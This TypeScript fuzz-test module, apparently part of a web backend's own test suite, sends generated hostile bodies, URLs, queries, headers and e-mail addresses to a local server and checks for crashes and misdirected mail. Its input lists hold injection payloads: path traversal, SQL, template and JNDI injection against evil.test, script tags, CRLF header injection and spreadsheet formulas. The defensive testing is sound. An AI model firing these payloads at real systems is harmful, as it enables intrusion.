import { connect } from 'node:net';
import fc from 'fast-check';
import { normalizeEmail } from '#contract/email-address';
import { bulkInvite } from '#contract/invite/api';
import { createApiClient, signIn } from '../helpers/api-client.ts';
import type { ApiClient } from '../helpers/api-client.ts';
import type { Team } from '../helpers/factories.ts';
import { openMailServer } from '../helpers/mail-server.ts';
import type { MailServer } from '../helpers/mail-server.ts';
import { routeRows, routesApart } from '../helpers/route-table.ts';
import type { Part } from './part.ts';
import { openHarness, type Harness } from './harness.ts';

const inputs = { short: 80, long: 10_000 };
/** Requests that wait for their answers at once. */
const atOnce = 16;
const answerPatienceMs = 20_000;

export const part: Part = {
  what: 'hostile inputs per parser: body, URL, query, headers, e-mail address',
  goal: '10,000 each: 0 crashes, 0 5xx',
  async run(size) {
    const mailServer = await openMailServer({ extensions: ['SMTPUTF8', '8BITMIME'] });
    const harness = await openHarness({ nodes: 1, smtpUrl: mailServer.smtpUrl });
    try {
      const backend = await openBackend(harness, mailServer);
      const count = inputs[size];
      const faults: string[] = [];
      await throwBodies(backend, count, faults);
      await throwUrls(backend, count, faults);
      await throwQueries(backend, count, faults);
      await throwHeaders(backend, count, faults);
      const mailed = await throwAddresses(backend, count, faults);
      faults.push(...(await signsOfCrash(harness)));
      return {
        reached: [
          `${count.toLocaleString('en')} each: ${faults.length} crashes, 5xx or other faults`,
          `${mailed} addresses were good and got their own mail`,
          ...faults.slice(0, 3),
        ].join('; '),
        met: faults.length === 0,
      };
    } finally {
      await harness.close();
      await mailServer.close();
    }
  },
};

interface BackendUnderTest {
  url: string;
  client: ApiClient;
  accessToken: string;
  team: Team;
  mailServer: MailServer;
}

async function openBackend({ testData, urls }: Harness, mailServer: MailServer): Promise<BackendUnderTest> {
  const url = urls[0] ?? '';
  const team = await testData.team();
  const { tokens } = await signIn(url, team.owner);
  return { url, client: createApiClient(url, tokens.accessToken), ...tokens, team, mailServer };
}

/** The same in every run: what is found once can be found again. */
const sampled = <T>(arbitrary: fc.Arbitrary<T>, count: number): T[] =>
  fc.sample(arbitrary, { numRuns: count, seed: 20_261_125 });

async function forEach<T>(items: readonly T[], work: (item: T) => Promise<void>): Promise<void> {
  const waiting = items.values();
  const lane = async (): Promise<void> => {
    for (const item of waiting) await work(item);
  };
  await Promise.all(Array.from({ length: atOnce }, lane));
}

/** Lists that are long and plain. */
const splitWords = (list: string): string[] => list.trim().split(/\s+/);
const splitPhrases = (list: string): string[] => list.split(',').map((phrase) => phrase.trim());

const nasty = fc.constantFrom(
  '\0',
  '\ud800',
  '\u202e',
  '\r\nSet-Cookie: a=b',
  '../../etc/passwd',
  "' or 1=1 --",
  '{{7*7}}',
  '${jndi:ldap://evil.test}',
  '<script>alert(1)</script>',
  '=cmd|calc!A1',
  '%00%0d%0a',
  '__proto__',
  'constructor',
  '9'.repeat(400),
  '-1',
  '1e999',
  'NaN',
  'infinity',
  'a'.repeat(5_000),
  '\u0301'.repeat(500),
);
const text = fc.oneof(nasty, fc.string({ unit: 'binary', maxLength: 40 }), fc.string({ maxLength: 40 }));
const name = fc.constantFrom(
  ...splitWords(`email role name password refreshToken maxSeats memberId invites code totp current next logoUrl
    reminders description scopes expiresAt __proto__ toString`),
);
const { value } = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { maxDepth: 4 },
    text,
    fc.constantFrom(null, true, false, 0, -0, 1e308, -1, 2 ** 53, 2 ** 31, 0.1),
    fc.double(),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(fc.oneof(name, text), tie('value'), { maxKeys: 4, noNullPrototype: true }),
  ),
}));
const body = fc.oneof(
  fc
    .dictionary(name, value, { minKeys: 1, maxKeys: 5, noNullPrototype: true })
    .map((made) => JSON.stringify(made)),
  value.map((made) => JSON.stringify(made) ?? 'undefined'),
  // Broken somewhere.
  fc
    .tuple(fc.dictionary(name, value, { noNullPrototype: true }), fc.nat(60), text)
    .map(([made, at, wedge]) => {
      const whole = JSON.stringify(made);
      return whole.slice(0, at) + wedge + whole.slice(at);
    }),
  fc.nat(3_000).map((depth) => `{"name":${'['.repeat(depth)}${']'.repeat(depth)}}`),
  fc.constantFrom(
    '{"name":"a","name":"b"}',
    '{"a":1}{"b":2}',
    '\ufeff{}',
    '[]',
    '""',
    'null',
    ' ',
    '{"email":1e400}',
  ),
  fc.string({ unit: 'binary', maxLength: 200 }),
);
const contentType = fc.oneof(
  { weight: 8, arbitrary: fc.constant('application/json') },
  fc.constantFrom(
    'application/json; charset=utf-16',
    'application/json;;',
    'APPLICATION/JSON',
    'text/html',
    'x',
    '/',
  ),
);

/** Routes that take a body. Ending all sessions would end the one that these calls are made with. */
const routesWithBody = [...routeRows.map(({ route }) => route), ...routesApart].filter((route) =>
  /^(POST|PUT|PATCH)/.test(route),
);

function pathOf(route: string, { team }: BackendUnderTest): string {
  return (route.split(' ')[1] ?? '')
    .replace('{organizationId}', team.organizationId)
    .replace('{memberId}', team.agent.memberId)
    .replace(/\{\w+\}/, '01a204a9-2d99-767a-9055-41f2288c4479');
}

async function throwBodies(backend: BackendUnderTest, count: number, faults: string[]): Promise<void> {
  const thrown = sampled(fc.tuple(fc.constantFrom(...routesWithBody), body, contentType), count);
  await forEach(thrown, async ([route, sent, type]) => {
    const [method = ''] = route.split(' ');
    const headers = { 'Content-Type': type };
    const answer = await backend.client
      .raw({ method, path: pathOf(route, backend), body: sent, headers })
      .catch((error: unknown) => ({ status: 599, text: String(error) }));
    recordServerError(faults, `${route} with the body ${sent.slice(0, 200)}`, answer);
  });
}

const step = fc.oneof(
  fc.constantFrom(
    'api',
    'organizations',
    'invites',
    'members',
    'support',
    'invite',
    'Account',
    'Login',
    'csv',
    '',
  ),
  fc.constantFrom(
    '..',
    '.',
    '%2e%2e',
    '%2f',
    '%5c',
    '%00',
    '%ff',
    '%',
    '%zz',
    '\\',
    ';',
    '@',
    '*',
    '#',
    '//',
    '\t',
  ),
  fc.constantFrom('a'.repeat(600), 'http://evil.test', '{organizationId}', ':organizationId', 'members.csv'),
  text,
);
const methods = fc.constantFrom(
  'GET',
  'HEAD',
  'POST',
  'PUT',
  'PATCH',
  'DELETE',
  'OPTIONS',
  'TRACE',
  'PROPFIND',
);

async function throwUrls(backend: BackendUnderTest, count: number, faults: string[]): Promise<void> {
  const target = fc.array(step, { maxLength: 7 }).map((steps) => `/${steps.join('/')}`);
  const thrown = sampled(fc.tuple(methods, fc.oneof(target, text), fc.boolean()), count);
  await forEach(thrown, async ([method, path, signedIn]) => {
    // A live stream never ends: it has an own way to be closed.
    if (path.includes('/events')) return;
    const headers = signedIn ? [`Authorization: Bearer ${backend.accessToken}`] : [];
    recordServerError(
      faults,
      `${method} ${path.slice(0, 200)}`,
      await sendRaw(backend, { method, path, headers }),
    );
  });
}

const question = fc.constantFrom(
  ...splitWords(`limit cursor search sort filter status role delivery invitedBy type actor from to kind invites
    returnUrl token password with organizationId __proto__`),
);
const oddCursor = fc
  .array(value, { maxLength: 4 })
  .map((position) => Buffer.from(JSON.stringify(position)).toString('base64url'));
const routesToAsk = [...routeRows.map(({ route }) => route), ...routesApart]
  .filter((route) => route.startsWith('GET') && !route.endsWith('/events'))
  .concat(...['/Account/Login', '/Account/ResetPassword', '/support/invite/x'].map((path) => `GET ${path}`));

async function throwQueries(backend: BackendUnderTest, count: number, faults: string[]): Promise<void> {
  const pair = fc
    .tuple(
      fc.oneof(question, text),
      fc.oneof(text, oddCursor, fc.constantFrom('asc', '1', '200', 'name', 'all')),
    )
    .map(([key, given]) => `${encoded(key)}=${encoded(given)}`);
  const raw = fc.constantFrom(
    '%',
    '&&&',
    '=',
    '?',
    'limit=%ff',
    'cursor=%00',
    'search[]=a',
    'sort=name&sort=email',
  );
  const query = fc.array(fc.oneof({ weight: 6, arbitrary: pair }, raw), { maxLength: 6 });
  const thrown = sampled(fc.tuple(fc.constantFrom(...routesToAsk), query), count);
  await forEach(thrown, async ([route, pairs]) => {
    const path = `${pathOf(route, backend)}?${pairs.join('&')}`;
    const headers = [`Authorization: Bearer ${backend.accessToken}`];
    recordServerError(
      faults,
      `GET ${path.slice(0, 300)}`,
      await sendRaw(backend, { method: 'GET', path, headers }),
    );
  });
}

function encoded(written: string): string {
  return encodeURIComponent(written.toWellFormed()).slice(0, 3_000);
}

async function throwHeaders(backend: BackendUnderTest, count: number, faults: string[]): Promise<void> {
  const known = fc.constantFrom(
    ...splitWords(`Authorization X-Api-Key Idempotency-Key Cookie Origin Referer Host Accept Content-Type
    Content-Length Transfer-Encoding X-Forwarded-For X-Forwarded-Host Forwarded Sec-Fetch-Site
    Sec-Fetch-User User-Agent If-None-Match Range Expect Upgrade X-Request-Id`),
  );
  const { accessToken } = backend;
  const part = fc.oneof(
    text,
    fc.constantFrom(
      accessToken,
      `${accessToken}x`,
      accessToken.slice(0, -2),
      'Bearer',
      'Basic',
      'fli_',
      'null',
    ),
    fc.constantFrom(
      'chunked',
      '0',
      '-5',
      '99999999999',
      '100-continue',
      'websocket',
      'gzip',
      '::1',
      '127.0.0.1',
    ),
    fc.constantFrom('fastlinkit_session=', 'fastlinkit_code=', 'a=b;', '"', '\u00e9', 'x'.repeat(20_000)),
  );
  const header = fc
    .tuple(fc.oneof({ weight: 9, arbitrary: known }, text), fc.array(part, { maxLength: 3 }))
    .map(([key, parts]) => `${key}: ${parts.join(' ')}`);
  const target = fc.constantFrom(
    ...splitPhrases(`GET /api/me,GET /Account,GET /Account/Login,GET /support/invite/x,GET /healthz,
    POST /api/organizations,POST /Account/Login,POST /api/auth/refresh,
    POST /support/invite/x/accept`),
  );
  const thrown = sampled(fc.tuple(target, fc.array(header, { minLength: 1, maxLength: 6 })), count);
  await forEach(thrown, async ([route, headers]) => {
    const [method = '', path = ''] = route.split(' ');
    recordServerError(
      faults,
      `${route} with ${headers.join(' | ').slice(0, 300)}`,
      await sendRaw(backend, { method, path, headers }),
    );
  });
}

/** Hostile addresses are invited: each is refused, or mailed to exactly the address that was meant, and nowhere else. */
async function throwAddresses(backend: BackendUnderTest, count: number, faults: string[]): Promise<number> {
  const piece = fc.oneof(
    fc.constantFrom(
      'victim',
      'evil',
      'a',
      '.',
      '..',
      '"',
      '\\',
      '@',
      ',',
      ';',
      ':',
      '<',
      '>',
      '(',
      ')',
      '[',
      ']',
    ),
    fc.constantFrom(
      '\r\n',
      '\n',
      '\0',
      '\t',
      ' ',
      '%0a',
      '=?utf-8?q?=40?=',
      '\u202e',
      '\uff20',
      '\u3002',
      '\ud800',
    ),
    fc.constantFrom(
      'evil.test',
      'victim.test',
      'xn--a',
      'bücher.test',
      '127.0.0.1',
      '[127.0.0.1]',
      'test',
      '+',
      '!',
    ),
  );
  const address = fc
    .tuple(fc.array(piece, { maxLength: 5 }), fc.nat(1_000_000), fc.array(piece, { maxLength: 4 }))
    .map(([before, number, after]) => `${before.join('')}${number}@${after.join('')}`);
  const plain = fc.nat(1_000_000).map((n) => `plain-${n}@evil.test`);
  const thrown = sampled(
    fc.oneof({ weight: 30, arbitrary: address }, { weight: 1, arbitrary: plain }),
    count,
  );
  const accepted = new Set<string>();
  for (let at = 0; at < count; at += 1_000) {
    const invites = thrown.slice(at, at + 1_000).map((email) => ({ email, role: 'agent' as const }));
    const { results } = await backend.client.call(bulkInvite, {
      params: { organizationId: backend.team.organizationId },
      body: { invites },
    });
    for (const [index, { outcome }] of results.entries()) {
      const written = invites[index]?.email ?? '';
      if (outcome === 'refused') continue;
      const normal = normalizeEmail(written);
      if (normal === undefined) faults.push(`${JSON.stringify(written)} was invited and is no address`);
      else accepted.add(normal);
    }
  }
  await allMailed(backend.mailServer, accepted);
  for (const { to, messageId } of backend.mailServer.accepted)
    // One form of the domain stands in the database, the other one may be told to the mail server.
    if (!accepted.has(normalizeEmail(to) ?? to))
      faults.push(`the email ${messageId} went to ${JSON.stringify(to)}`);
  return accepted.size;
}

/** Waits until each address has an email, in whichever form of its domain the mail server got it. */
async function allMailed({ accepted }: MailServer, expected: ReadonlySet<string>): Promise<void> {
  const until = Date.now() + 180_000;
  for (;;) {
    const mailed = new Set(accepted.map(({ to }) => normalizeEmail(to) ?? to));
    const missing = [...expected].filter((email) => !mailed.has(email));
    if (missing.length === 0) return;
    if (Date.now() > until) {
      const others = [...mailed].filter((email) => !expected.has(email));
      throw new Error(
        `no email came for ${JSON.stringify(missing.slice(0, 5))}, and one for ${JSON.stringify(others.slice(0, 5))}`,
      );
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

interface Reply {
  status: number;
  text: string;
}

function recordServerError(faults: string[], what: string, { status, text: said }: Reply): void {
  if (status >= 500) faults.push(`${status} for ${what}: ${said.slice(0, 200)}`);
}

/**
 * Sends what no HTTP client would send. Returns status 0 when the server closes the connection without a response, as it
 * may for input that is not HTTP.
 */
async function sendRaw(
  { url }: BackendUnderTest,
  { method, path, headers }: { method: string; path: string; headers: string[] },
): Promise<Reply> {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  let said = '';
  socket.setEncoding('latin1').on('data', (chunk: string) => {
    if (said.length < 4_000) said += chunk;
  });
  const closed = new Promise((resolve) => socket.once('close', resolve));
  // Closing the connection in the middle of a request is an answer too.
  socket.on('error', () => undefined);
  socket.setTimeout(answerPatienceMs, () => {
    said = `HTTP/1.1 599 no answer within ${answerPatienceMs} ms`;
    socket.destroy();
  });
  socket.end(
    Buffer.from(
      [`${method} ${path} HTTP/1.1`, 'Host: backend.test', 'Connection: close', ...headers, '', ''].join(
        '\r\n',
      ),
    ),
  );
  await closed;
  return { status: Number(/^HTTP\/1\.1 (\d{3})/.exec(said)?.[1] ?? 0), text: said };
}

/** What is left of a backend that was treated so. */
async function signsOfCrash({ backends, testData }: Harness): Promise<string[]> {
  const [backend] = backends;
  if (!backend) return ['there is no backend'];
  const signs: string[] = [];
  const healthy = await fetch(`${backend.url}/readyz`).then(
    ({ ok }) => ok,
    () => false,
  );
  if (!healthy) signs.push('the backend is no longer ready');
  const unexpected = backend
    .log()
    .filter(({ level, msg }) => level === 'fatal' || msg === 'unexpected error');
  for (const line of unexpected) signs.push(`in the log: ${JSON.stringify(line).slice(0, 300)}`);
  const { rows } = await testData.database.pool.query<{ count: number }>(
    'select count(*)::int as count from organizations',
  );
  if ((rows[0]?.count ?? 0) === 0) signs.push('the organizations are gone');
  return signs;
}
